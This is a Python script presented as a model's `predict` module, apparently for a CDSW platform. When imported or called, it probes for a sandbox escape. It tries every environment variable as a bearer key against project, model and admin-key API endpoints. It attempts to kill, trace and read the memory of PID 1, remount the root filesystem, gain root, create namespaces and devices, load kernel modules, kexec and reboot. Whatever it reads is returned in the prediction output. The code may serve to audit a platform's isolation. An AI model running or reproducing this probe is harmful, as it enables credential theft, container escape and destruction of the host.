"""Tries to get out, in every way there is a name for. Each attempt says "denied: why", or what it got."""

import ctypes
import errno
import json
import os
import socket
import urllib.error
import urllib.request

# Any other error may be a complaint about the arguments from something that was open to us.
DENIALS = {errno.EPERM, errno.EACCES, errno.EROFS, errno.ENOENT, errno.ENOSYS, errno.ESRCH, errno.EAFNOSUPPORT}
libc = ctypes.CDLL(None, use_errno=True)
X86_64 = os.uname().machine == "x86_64"


def outcome(act, *arguments):
    try:
        return f"reached: {act(*arguments)!r}"
    except urllib.error.HTTPError as error:
        return f"denied: {error}" if error.code in (401, 403) else f"unclear: {error}"
    except OSError as error:
        return f"denied: {error}" if error.errno in DENIALS else f"unclear: {error}"


def call(name, *arguments):
    """A function of the C library, or a system call by number: what it returns, if that is no error."""
    ctypes.set_errno(0)
    function = libc.syscall if isinstance(name, int) else getattr(libc, name)
    numbers = (name,) if isinstance(name, int) else ()
    got = function(*numbers, *arguments)
    if got == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def read(path):
    with open(path, "rb") as file:
        return file.read(100)


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")
    return "written"


def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(path)
    return "connected"


def ask(url, key):
    headers = {"Authorization": "Bearer " + key} if key else {}
    with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=5) as answer:
        return answer.read(100)


def raw_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "opened"


def through_pidfd(number, *arguments):
    """A system call on the first process, named by a descriptor."""
    first = os.pidfd_open(1)
    try:
        return call(number, first, *arguments)
    finally:
        os.close(first)


def with_paths(paths):
    acts = {"read": read, "list": os.listdir, "write": write, "connect": connect}
    for act, names in paths.items():
        for name in names:
            yield f"{act} {name}", acts[act], (name,)


def with_keys():
    """Whatever is in the environment, tried as a key."""
    server = os.environ["CDSW_API_URL"].replace("/api/v1", "")
    keys = {name: os.environ[name] for name in os.environ}
    keys = {name: key for name, key in keys.items() if key.isprintable() and key.isascii()}
    for path in ("/api/v2/projects", "/api/v2/models", "/api/v2/users/admin/v2_keys"):
        yield f"ask {path} without a key", ask, (server + path, None)
        for name, key in keys.items():
            yield f"ask {path} with {name}", ask, (server + path, key)


def with_system_calls():
    remote = ctypes.create_string_buffer(16)
    yield "kill the first process", os.kill, (1, 9)
    yield "stop the first process", os.kill, (1, 19)
    yield "trace the first process", call, ("ptrace", 16, 1, 0, 0)
    yield "trace the template", call, ("ptrace", 16, os.getppid(), 0, 0)
    yield "read the memory of the first process", call, ("process_vm_readv", 1, remote, 1, remote, 1, 0)
    yield "mount", call, ("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    yield "mount anew, to write", call, ("mount", None, b"/", None, 32, None)
    yield "unmount", call, ("umount2", b"/tmp", 2)
    yield "another root", os.chroot, ("/tmp",)
    yield "a user namespace", call, ("unshare", 0x10000000)
    yield "a mount namespace", call, ("unshare", 0x00020000)
    yield "the first process's namespaces", os.open, ("/proc/1/ns/mnt", os.O_RDONLY)
    yield "be root", os.setuid, (0,)
    yield "be in root's group", os.setgid, (0,)
    yield "be in other groups", os.setgroups, ([0],)
    yield "a device", os.mknod, ("/tmp/device", 0o20600, os.makedev(1, 1))
    yield "a raw socket", raw_socket, (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    yield "a packet socket", raw_socket, (socket.AF_PACKET, socket.SOCK_RAW, 0)
    yield "the host's name", socket.sethostname, ("mine",)
    yield "set the clock", call, ("settimeofday", remote, None)
    yield "restart the machine", call, ("reboot", 0)
    yield "a higher priority", os.setpriority, (os.PRIO_PROCESS, 0, -20)
    if X86_64:
        numbers = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425}
        numbers |= {"init_module": 175, "kexec_load": 246, "keyctl": 250, "open_by_handle_at": 304}
        numbers |= {"clone3": 435, "setns": 308}
        for name, number in numbers.items():
            yield name, call, (number, 1, 0, 0, 0, 0, 0)
        yield "a descriptor of the first process", through_pidfd, (438, 0, 0)
        yield "advise on the first process's memory", through_pidfd, (440, 0, 0, 20, 0)


def prowl(paths):
    found = {}
    for attempts in (with_paths(paths), with_keys(), with_system_calls()):
        for name, act, arguments in attempts:
            found[name] = outcome(act, *arguments)
    return found


with open("paths.json") as file:
    PATHS = json.load(file)
AT_IMPORT = prowl(PATHS)


def predict(args):
    return {"import": AT_IMPORT, "call": prowl(PATHS)}
